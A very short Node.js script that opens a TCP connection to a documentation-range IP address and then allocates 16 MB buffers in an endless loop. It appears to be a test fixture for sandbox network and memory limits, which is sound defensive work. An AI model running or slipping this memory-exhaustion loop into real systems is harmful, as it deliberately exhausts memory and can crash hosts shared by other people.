'use strict';
const net = require('net');
net.connect({ host: '198.51.100.7', port: 80 }).on('error', () => {});
setTimeout(() => {
  const hog = [];
  for (;;) hog.push(Buffer.alloc(16 << 20, 1));
}, 200);
